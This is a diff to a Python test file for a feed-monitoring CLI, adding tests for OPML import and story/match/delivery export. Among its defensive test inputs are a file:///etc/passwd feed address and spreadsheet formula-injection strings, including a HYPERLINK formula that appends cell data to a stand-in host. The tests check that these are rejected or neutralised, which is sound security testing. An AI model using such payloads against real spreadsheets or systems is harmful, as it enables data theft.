@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import email
 import json
 import logging
@@ -9,6 +10,7 @@ import subprocess
 import sys
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+from datetime import UTC, datetime
 from email.policy import default
 from io import BytesIO, StringIO, TextIOWrapper
 from pathlib import Path
@@ -22,7 +24,7 @@ from monitor import __version__
 from monitor.cli import cli, commands, common, main
 from monitor.config import load_config
 from monitor.errors import QueryError
-from monitor.models import Delivery
+from monitor.models import Delivery, Story
 from monitor.query import parse
 from monitor.store import Store
 from tests.conftest import PROJECT
@@ -123,8 +125,8 @@ def test_the_commands_are_those_of_the_reference() -> None:
     reference = (PROJECT / "docs" / "reference" / "commands.md").read_text(encoding="utf-8")
     names = [name.replace("_", "-") for name in COMMANDS]
     assert [name for name in names if f"| `monitor {name}" not in reference] == []
-    assert {"check", "deliveries", "demo", "digest", "explain", "feeds", "init", "match", "migrate", "parse", "poll",
-            "query", "retry", "run", "schema", "status"} <= set(names)  # fmt: skip
+    assert {"check", "deliveries", "demo", "digest", "explain", "export", "feeds", "import", "init", "match",
+            "migrate", "parse", "poll", "query", "retry", "run", "schema", "status"} <= set(names)  # fmt: skip
 
 
 @pytest.mark.parametrize("command", COMMANDS)
@@ -153,6 +155,16 @@ WRONG_USAGE = [
     ("digest", "ruth", "--format", "pdf"),
     ("digest", "ruth", "--at", "noon"),
     ("demo", "--pace", "0"),
+    ("import",),
+    ("import", "opml"),
+    ("import", "cookies", "x.txt"),
+    ("export",),
+    ("export", "secrets"),
+    ("export", "stories", "--format", "xml"),
+    ("export", "stories", "--since", "noon"),
+    ("export", "stories", "--since", "9999999d"),
+    ("export", "stories", "--json", "--format", "csv"),
+    ("export", "opml", "--format", "csv"),
 ]
 
 
@@ -176,6 +188,8 @@ NEEDS_CONFIG = [
     ("deliveries",),
     ("retry", "1"),
     ("explain", "x"),
+    ("export", "stories"),
+    ("import", "opml", "http://127.0.0.1:9/list.opml"),
 ]
 
 
@@ -191,7 +205,7 @@ def test_a_bad_configuration_exits_1_and_names_the_place(folder: Path, run: Run,
 
 
 @pytest.mark.parametrize(
-    "words", [w for w in NEEDS_CONFIG if w[0] not in ("check", "match") and w != ("run",)], ids=" ".join
+    "words", [w for w in NEEDS_CONFIG if w[0] not in ("check", "match", "import") and w != ("run",)], ids=" ".join
 )
 def test_a_database_that_cannot_be_opened_exits_3(folder: Path, run: Run, words: tuple[str, ...]) -> None:
     (folder / "data").mkdir()
@@ -650,3 +664,142 @@ def test_explain_of_what_is_not_there_exits_1_and_says_what_is(run: Run, words: 
 @pytest.mark.usefixtures("told")
 def test_an_alert_names_entities_as_people_know_them(mail_server: MailServer) -> None:
     assert "It names Ardent Lark." in mail_server.mails[0].content.decode()
+
+
+# --- import, export
+
+OPML = """<opml version="2.0"><body><outline text="Press">
+  <outline type="rss" text="Новости: мир" xmlUrl="https://wire.example/rss?a=1&b=2"/>
+  <outline text="Files" xmlUrl="file:///etc/passwd"/></outline></body></opml>"""
+
+
+def checked(run: Run, folder: Path, feeds: str) -> dict[str, str]:
+    """Return the addresses that `monitor check` accepts, by name."""
+    write_config(folder / "imported", feeds=feeds)
+    assert run("check", "--config", str(folder / "imported")).code == 0
+    return {name: feed.address for name, feed in load_config(folder / "imported", {}).feeds.items()}
+
+
+def test_import_prints_the_feeds_of_a_list_and_what_it_leaves_out(folder: Path, run: Run) -> None:
+    (folder / "list.opml").write_text(OPML)
+    shown = run("import", "opml", "list.opml")
+    assert (shown.code, shown.err) == (0, "line 3: “Files”: the address is not http:// or https://; it is left out\n")
+    assert "новости-мир:" in shown.out
+    assert checked(run, folder, shown.out) == {"новости-мир": "https://wire.example/rss?a=1&b=2"}
+    (folder / "config" / "feeds.yaml").write_text("feeds: [")  # it may be what the list is for
+    as_json = run("import", "opml", "-", "--json", stdin=OPML.encode())
+    assert list(as_json.json["feeds"]) == ["новости-мир"]
+    assert as_json.json["notes"] == [shown.err.strip()]
+
+
+@pytest.mark.parametrize(
+    ("body", "said"),
+    [
+        (b"<opml><body/></opml>", "- holds no feed"),
+        (b"<html>", "the document is not OPML"),
+        (b"", "the document is not OPML"),
+    ],
+)
+def test_import_of_a_list_without_feeds_exits_1(run: Run, body: bytes, said: str) -> None:
+    shown = run("import", "opml", "-", stdin=body)
+    assert (shown.code, shown.out) == (1, "")
+    assert said in shown.err
+    assert "nowhere.opml cannot be read" in run("import", "opml", "nowhere.opml").err
+
+
+def test_import_of_a_list_that_takes_too_long_gives_up(folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("monitor.transfer.PARSE_DEADLINE", 0.2)
+    (folder / "list.opml").write_text("<opml>" + "<outline text='a'/>" * 1_000_000)
+    shown = run("import", "opml", "list.opml")
+    assert (shown.code, shown.out) == (1, "")
+    assert "took longer than 0.2 seconds" in shown.err
+
+
+def test_import_of_an_address_prints_the_feed_that_the_page_leads_to(folder: Path, run: Run, wire: FeedServer) -> None:
+    links = "".join(f'<link rel="alternate" type="application/rss+xml" href="/{n}.xml">' for n in (1, 2, 3))
+    home = wire.route("/", Answer(f"<html><head>{links}</head></html>".encode(), content_type="text/html"))
+    second = wire.route("/2.xml", Answer(rss(("1", "News"), title="Northern Wire")))
+    shown = run("import", "opml", home)
+    assert shown.code == 0
+    assert f"{home} is a web page; it leads to the feed {second}" in shown.err
+    assert f"it also leads to {wire.url('/3.xml')}" in shown.err
+    assert checked(run, folder, shown.out) == {"northern-wire": second}
+    # The address of a feed, of a sitemap and of a list are as good.
+    assert checked(run, folder, run("import", "opml", second).out) == {"northern-wire": second}
+    index = wire.route("/index.xml", Answer(b"<sitemapindex><sitemap><loc>/1.xml</loc></sitemap></sitemapindex>"))
+    assert "sitemap: http" in run("import", "opml", index).out
+    listed = run("import", "opml", wire.route("/list", Answer(OPML.encode(), content_type="text/x-opml")))
+    assert checked(run, folder, listed.out) == {"новости-мир": "https://wire.example/rss?a=1&b=2"}
+
+
+def test_import_of_an_address_without_a_feed_says_why(folder: Path, run: Run, wire: FeedServer) -> None:
+    home = wire.route("/", Answer(b"<html><body>Nothing</body></html>", content_type="text/html"))
+    shown = run("import", "opml", home)
+    assert (shown.code, shown.out) == (1, "")
+    assert "usual addresses such as /feed are not tried unasked" in shown.err
+    assert wire.count("/feed") == 0
+    assert run("import", "opml", wire.url("/nowhere")).code == 3
+    # Without a configuration that allows it, no private address is fetched.
+    blocked = run("import", "opml", home, "--config", str(folder / "none"))
+    assert (blocked.code, blocked.out) == (3, "")
+    assert "private or reserved address" in blocked.err
+    assert wire.count("/") == 1
+
+
+@pytest.mark.usefixtures("told")
+def test_export_prints_what_is_recorded_as_json_lines_or_csv(run: Run) -> None:
+    lines = [json.loads(line) for line in run("export", "stories").out.splitlines()]
+    assert [story["title"] for story in lines] == ["Old harbour", "Fair", "Embargo on the Ardent Lark"]
+    assert {"id", "url", "source", "summary", "text", "tags", "first_seen_at"} <= set(lines[0])
+    assert run("export", "stories", "--json").out == run("export", "stories", "--format", "jsonl").out
+    (harbour, embargo) = [json.loads(line) for line in run("export", "matches").out.splitlines()]
+    assert (harbour["topic"], embargo["topic"], embargo["title"]) == (
+        "ports",
+        "sanctions",
+        "Embargo on the Ardent Lark",
+    )
+    assert embargo["evidence"][0]["term"] == "embargo"
+    (delivery,) = [json.loads(line) for line in run("export", "deliveries").out.splitlines()]
+    assert (delivery["kind"], delivery["subscriber"], delivery["state"]) == ("alert", "ruth", "sent")
+    assert "payload" not in delivery
+    for kind, row in (("stories", lines[0]), ("matches", embargo), ("deliveries", delivery)):
+        table = list(csv.DictReader(StringIO(run("export", kind, "--format", "csv").out, newline="")))
+        assert list(table[0]) == list(row)
+    assert run("export", "stories", "--since", "2999-01-01").out == ""
+    assert run("export", "stories", "--since", "1h").out == run("export", "stories").out
+    head = run("export", "deliveries", "--since", "2999-01-01", "--format", "csv").out
+    assert head.startswith("id,key,kind,")
+    assert head.count("\n") == 1
+
+
+def test_export_of_many_rows_is_whole_and_tricks_no_spreadsheet(folder: Path, run: Run) -> None:
+    assert run("migrate").code == 0
+    store = Store("sqlite:///monitor.db", folder / "data")
+    at = datetime(2026, 11, 25, tzinfo=UTC)
+    titles = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x"&A1)', 'a"b,c\nd', "1-1"]
+    titles += [f"Story {n}" for n in range(1_200)]
+    with store.write() as session:
+        for number, title in enumerate(titles):
+            story = Story(key=f"{number}", feed="wire", source="Wire", url="", title=title, tags=["=x"],
+                          first_seen_at=at, effective_at=at)  # fmt: skip
+            session.add(story)
+            session.flush()
+    store.close()
+    rows = list(csv.DictReader(StringIO(run("export", "stories", "--format", "csv").out, newline="")))
+    assert [row["title"] for row in rows] == [f"'{title}" for title in titles[:8]] + titles[8:]
+    assert {(row["tags"], row["first_seen_at"], row["date_doubtful"]) for row in rows} == {
+        ('["=x"]', "2026-11-25T00:00:00Z", "false")
+    }
+    assert [json.loads(line)["title"] for line in run("export", "stories").out.splitlines()] == titles
+
+
+def test_exported_feeds_are_imported_as_the_same(folder: Path, run: Run) -> None:
+    shown = run("export", "opml")
+    assert shown.code == 0
+    again = run("import", "opml", "-", stdin=shown.out.encode())
+    write_config(folder / "again", feeds=again.out)
+    before, after = (load_config(folder / name, {}).feeds for name in ("config", "again"))
+    assert {name: feed.model_dump() for name, feed in after.items()} == {
+        name: feed.model_dump() for name, feed in before.items()
+    }
+    assert again.err == ""
